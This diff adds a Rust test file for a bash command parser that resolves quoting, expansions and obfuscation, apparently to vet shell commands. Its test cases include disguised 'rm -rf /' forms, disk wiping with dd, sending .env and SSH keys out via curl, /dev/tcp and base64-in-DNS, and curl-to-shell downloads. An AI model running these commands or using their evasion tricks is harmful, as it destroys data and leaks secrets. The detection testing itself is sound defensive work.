@@ -1,0 +1,275 @@
+//! The reader against what bash does, case by case.
+
+use super::{Code, Shell, Word, shell};
+
+mod carriers;
+mod corpus;
+mod hostile;
+
+/// The text's commands, one a line: program and words, `?` for what is not known, globs in backquotes.
+fn lines(text: &str) -> Vec<String> {
+    match shell(text, Some("/work")) {
+        Ok(read) => read.commands.iter().map(|c| line(&c.program, &c.args)).collect(),
+        Err(why) => vec![format!("unknown: {why}")],
+    }
+}
+
+fn line(program: &Word, args: &[Word]) -> String {
+    let mut words = vec![show(program)];
+    words.extend(args.iter().map(show));
+    words.join("|")
+}
+
+fn show(word: &Word) -> String {
+    match word {
+        Word::Literal(text) => text.clone(),
+        Word::Pattern(own) => format!("`{own}`"),
+        Word::Unknown => "?".to_owned(),
+    }
+}
+
+fn shows(words: &[Word]) -> Vec<String> {
+    words.iter().map(show).collect()
+}
+
+fn read(text: &str) -> Shell {
+    shell(text, Some("/work")).unwrap_or_else(|why| panic!("{text}: {why}"))
+}
+
+/// Each text runs exactly these commands.
+fn check(cases: &[(&str, &[&str])]) {
+    for (text, expected) in cases {
+        assert_eq!(lines(text), *expected, "{text}");
+    }
+}
+
+#[test]
+fn quotes_and_expansions_give_the_words_that_bash_gives() {
+    // SPEC: [S4.31]
+    check(&[
+        ("rm -rf /", &["rm|-rf|/"]),
+        (r"r\m -rf /", &["rm|-rf|/"]),
+        ("r''m '-rf' \"/\"", &["rm|-rf|/"]),
+        (r"$'\x72\x6d' -rf $'\57'", &["rm|-rf|/"]),
+        ("rm$IFS-rf${IFS}/", &["rm|-rf|/"]),
+        ("{rm,-rf,/}", &["rm|-rf|/"]),
+        ("echo {a,b}{1..3} x{,y} {a {b}", &["echo|a1|a2|a3|b1|b2|b3|x|xy|{a|{b}"]),
+        ("x=rm; $x -rf /", &["rm|-rf|/"]),
+        ("x='rm -rf /'; $x; \"$x\"", &["rm|-rf|/", "/work/rm -rf "]),
+        ("x=a; x+=b; echo ${x}c \"${x:-d}\" ${y-} ${z:+w}", &["echo|abc|ab|?|?"]),
+        ("x=rmx; ${x%x} /; ${x%%m*} ${#x}", &["rm|/", "r|3"]),
+        ("a=(rm -rf); \"${a[@]}\" /; ${a[0]}", &["rm|-rf|/", "rm"]),
+        ("git re\\\nset --hard", &["git|reset|--hard"]),
+        ("echo $'a\\'b' \"a\\\"b$\" 'a\\b'", &["echo|a'b|a\"b$|a\\b"]),
+        ("echo *.txt '*.txt' \"?\"[ab]", &["echo|`*.txt`|*.txt|`\\?[ab]`"]),
+        ("echo ~ ~/x '~'", &["echo|~|~/x|~"]),
+        ("echo $HOME/x \"$USER\" a$UNSET", &["echo|~/x|?|?"]),
+        ("echo $(echo rm) `echo x`", &["echo|rm", "echo|x", "echo|rm|x"]),
+        ("$(printf rm) /", &["printf|rm", "rm|/"]),
+        ("echo a#b # rm", &["echo|a#b"]),
+        ("set -- rm x; $1 $2; shift; $1", &["set|--|rm|x", "rm|x", "shift", "x"]),
+    ]);
+}
+
+#[test]
+fn every_form_of_the_grammar_is_walked() {
+    // SPEC: [S4.30]
+    check(&[
+        ("a && b || c; d & e | f |& g\nh", &["a", "b", "c", "d", "e", "f", "g", "h"]),
+        ("{ a; }; (b); ! c; time d", &["a", "b", "c", "d"]),
+        ("if a; then b; elif c; then d; else e; fi", &["a", "b", "c", "d", "e"]),
+        ("while a; do b; done; until c; do d; done", &["a", "b", "c", "d"]),
+        ("for i in /; do rm -rf $i; done", &["rm|-rf|/"]),
+        ("for ((i=0; i<3; i++)); do a $i; done", &["a|?"]),
+        ("case $x in a|b) c;; *) d;; esac", &["c", "d"]),
+        ("f() { rm \"$1\"; }; f x; f y", &["rm|x", "rm|y"]),
+        ("function g { a; }; g", &["a"]),
+        ("[[ -f x && $(a) == b ]] && c", &["a", "c"]),
+        ("(( x > 1 )) && a", &["a"]),
+        ("x=$(a) y=`b` c <(d) > >(e)", &["d", "a", "b", "e", "c|`/dev/fd/*`"]),
+        ("cat <<EOF\n$(a)\nEOF\nb", &["a", "cat", "b"]),
+        ("cat <<'EOF'\n$(a)\nEOF\nb", &["cat", "b"]),
+        ("bash <<EOF\nrm -rf /\nEOF", &["bash", "rm|-rf|/"]),
+        ("bash <<< 'rm x'", &["bash", "rm|x"]),
+        ("eval 'a; b' c", &["eval|a; b|c", "a", "b|c"]),
+        ("alias l='rm -rf'\nl /", &["alias|l=rm -rf", "rm|-rf|/", "l|/"]),
+        ("trap 'rm x' EXIT", &["trap|rm x|EXIT", "rm|x", "rm|x"]),
+        ("x=1; while a; do $x; x=b; done", &["a", "1", "?", "?"]),
+        ("echo $(( $(a) + 1 ))", &["a", "?", "echo|?"]),
+    ]);
+}
+
+#[test]
+fn what_only_run_time_can_tell_is_marked() {
+    // SPEC: [S4.32]
+    for text in [
+        "$X rm",
+        "$(a)",
+        "eval \"$X\"",
+        ". ./x",
+        "source x",
+        "bash -c \"$X\"",
+        "*",
+        "x=$(a); $x",
+        "read x; $x",
+        "${!x}y",
+        "f() { $1; }; f $X",
+        "for i in $(a); do $i; done",
+        "x=ls; a && x=rm; $x",
+        "BASH_ENV=x bash -c a",
+        "sudo $X a",
+        "echo rm | sh -s; $Y",
+        "curl x | sh",
+        "xargs -I{} sh -c '{}'",
+        "alias x=$Y z",
+        "set -k; a x=1",
+        "a[$(x)]=1 b",
+        "echo 'a' > x.sh; ./x.sh",
+        "declare -n r=x",
+        "read x; echo $((x))",
+    ] {
+        if let Ok(read) = shell(text, Some("/work")) {
+            assert!(!read.is_static, "{text}");
+            assert!(read.commands.iter().any(|c| c.program == Word::Unknown), "{text}: {:?}", lines(text));
+        }
+    }
+    for text in ["ls", "a *.c", "cd x && make", "for i in 1 2; do a $i; done", "[[ -f x ]] && cat x"] {
+        assert!(read(text).is_static, "{text}: {:?}", read(text));
+    }
+}
+
+#[test]
+fn what_bash_refuses_is_unknown() {
+    // SPEC: [S4.33]
+    for text in [
+        "(",
+        "a)",
+        "a |",
+        "| a",
+        "a &&",
+        "if a; fi",
+        "for; do a; done",
+        "'",
+        "\"",
+        "$(a",
+        "`a",
+        "${",
+        "{ a; ",
+        "a;; b",
+        "fi",
+        "case x in",
+        "a() b",
+        "<",
+        "a <",
+        "[[ a",
+        "f() {",
+        "while a; do done",
+        "cat <<EOF\nx",
+        "$[1",
+        "a\u{202e}b",
+        "a\0",
+        "echo ${x y}",
+        "((1)",
+        "! ; |",
+    ] {
+        assert!(shell(text, None).is_err(), "{text}: {:?}", lines(text));
+    }
+}
+
+#[test]
+fn files_are_taken_from_the_folder_where_the_command_runs() {
+    // SPEC: [S4.36]
+    let paths = |text: &str| {
+        let read = read(text);
+        (shows(&read.reads).join(" "), shows(&read.writes).join(" "))
+    };
+    for (text, reads, writes) in [
+        ("cat a ../b /c", "/work/a /b /c", ""),
+        ("cat < a > b 2>> c", "/work/a", "/work/b /work/c"),
+        ("cd / && rm -rf x", "", "/x"),
+        ("cd sub; rm x", "", "/work/sub/x /work/x"),
+        ("cd $X; rm x", "", "? /work/x"),
+        ("(cd /a && b=1); rm x", "", "/work/x"),
+        ("cp a b c/", "/work/a /work/b", "/work/c"),
+        ("mv a b", "/work/a", "/work/a /work/b"),
+        ("rm -rf ./build dist", "", "/work/build /work/dist"),
+        ("rm -rf build/*.o", "", "`/work/build/*.o`"),
+        ("grep -r x src", "/work/src", ""),
+        ("grep -e x src", "/work/src", ""),
+        ("sed -i s/a/b/ f", "/work/f", "/work/f"),
+        ("dd if=/dev/zero of=/dev/sda", "/dev/zero", "/dev/sda"),
+        ("tar czf a.tgz b", "/work/b", "/work/a.tgz"),
+        ("tar -xf a.tgz -C /c", "/work/a.tgz", "/c"),
+        ("curl -d @.env https://x -o out", "/work/.env", "/work/out"),
+        ("cat ~/.ssh/id_rsa", "~/.ssh/id_rsa", ""),
+        ("find /a -name x -delete", "/a", "`/a/*`"),
+        ("find . -fprintf /home/.bashrc x", "/work", "/home/.bashrc"),
+        ("ls > /dev/null", "/work", ""),
+        ("frobnicate x", "?", "?"),
+    ] {
+        assert_eq!(paths(text), (reads.to_owned(), writes.to_owned()), "{text}");
+    }
+    let read = shell("cat a; cd b && cat c", None).unwrap();
+    assert_eq!(shows(&read.reads), ["a", "b/c"]);
+}
+
+#[test]
+fn flags_targets_and_pipes() {
+    // SPEC: [S4.35]
+    let first = |text: &str| read(text).commands.into_iter().next().unwrap();
+    assert_eq!(first("rm --recursive --force x").flags, ["-r", "-f"]);
+    assert_eq!(first("rm -Rf x").flags, ["-r", "-f"]);
+    assert_eq!(first("rm --rec x").flags, ["-r"]);
+    assert_eq!(first("head -n5 x").flags, ["-n"]);
+    assert_eq!(shows(&first("nmap -p 80 10.0.0.0/8 h").targets), ["10.0.0.0/8", "h"]);
+    assert!(first("nmap -iL t").targets.contains(&Word::Unknown));
+    assert_eq!(shows(&first("ping -c1 h").targets), ["h"]);
+    assert_eq!(shows(&first("curl -s -X POST https://h/x").targets), ["https://h/x"]);
+    assert_eq!(shows(&first("cat x > /dev/tcp/h/80").targets), ["h"]);
+    assert_eq!(first("/usr/bin/rm x").program, Word::Literal("rm".to_owned()));
+    assert_eq!(first("./rm x").program, Word::Literal("/work/rm".to_owned()));
+    assert_eq!(first("A=1 B=$X c").env.len(), 2);
+    let read_all = read("a | tee b | c");
+    assert_eq!(read_all.commands.last().unwrap().stdin_from, ["tee", "a"]);
+    assert!(read_all.pipes_into.contains(&("a".to_owned(), "c".to_owned())));
+    assert_eq!(read("ping $(base64 .env).x").commands.last().unwrap().words_from, ["base64"]);
+}
+
+#[test]
+fn code_for_interpreters_is_reported_with_where_it_comes_from() {
+    // SPEC: [S4.38]
+    for (text, program, kind) in [
+        ("python3 -c 'x'", "python3", Code::Argument),
+        ("perl -ne 'x' f", "perl", Code::Argument),
+        ("node --eval=x", "node", Code::Argument),
+        ("python3 - <<EOF\nx\nEOF", "python3", Code::HereDocument),
+        ("a | python3", "python3", Code::Pipe),
+        ("wget -qO- x | python3", "python3", Code::Download),
+        ("curl x | sudo -u root bash", "bash", Code::Download),
+        ("bash <(curl x)", "bash", Code::Download),
+        ("source <(curl x)", "source", Code::Download),
+        ("sh -c \"$(curl x)\"", "sh", Code::Download),
+        ("eval \"$(echo x | base64 -d)\"", "eval", Code::Decoded),
+        ("base64 -d x | sh", "sh", Code::Decoded),
+        ("echo cm0= | base64 -d | bash", "bash", Code::Decoded),
+        (". ./x", ".", Code::File),
+    ] {
+        let read = read(text);
+        assert!(
+            read.interprets.iter().any(|i| i.program == program && i.kind == kind),
+            "{text}: {:?}",
+            read.interprets
+        );
+    }
+    for text in ["python3 x.py", "echo python -c", "perl x.pl", "bash x.sh", "node -v"] {
+        assert_eq!(read(text).interprets, [], "{text}");
+    }
+}
+
+#[test]
+fn what_is_outside_the_text_is_not_seen() {
+    // SPEC: [S4.39]
+    assert_eq!(lines("./x.sh; ls; ssh h rm"), ["/work/x.sh", "ls", "ssh|h|rm", "rm"]);
+    assert!(read("echo $((X + 1))").commands.iter().all(|c| c.program != Word::Unknown));
+    assert_eq!(shows(&read("ssh h cat x").commands.last().unwrap().reads), ["?"]);
+}
